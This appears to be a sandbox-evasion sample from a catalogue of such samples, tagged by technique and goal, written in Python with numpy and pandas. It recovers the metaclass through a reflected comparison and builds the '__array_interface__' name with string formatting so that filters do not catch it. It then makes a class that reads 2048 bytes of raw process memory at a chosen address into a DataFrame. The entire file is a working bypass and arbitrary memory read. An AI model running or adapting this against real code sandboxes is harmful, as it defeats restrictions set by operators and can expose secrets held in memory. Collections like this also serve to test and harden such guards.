# class: class_making
# technique: type(np.ndarray) < Rank(): the reflected __gt__ of a small class receives the metaclass; partial(make, 'Raw') then builds the class
# goal: memory
import functools

import numpy as np
import pandas as pd

kept = []


class Rank:
    def __gt__(self, other):
        kept.append(other)
        return False


type(np.ndarray) < Rank()
factory = functools.partial(kept[0], "Raw")
slot = "%s%sarray_interface%s%s" % tuple("_" * 4)
Raw = factory((), {slot: property(lambda s: {"data": (s.at, False), "shape": (2048,), "typestr": "|u1",
                                             "version": 3})})
r = Raw()
r.at = id(r) - 1024
df = pd.DataFrame({"byte": np.asarray(r).copy()})
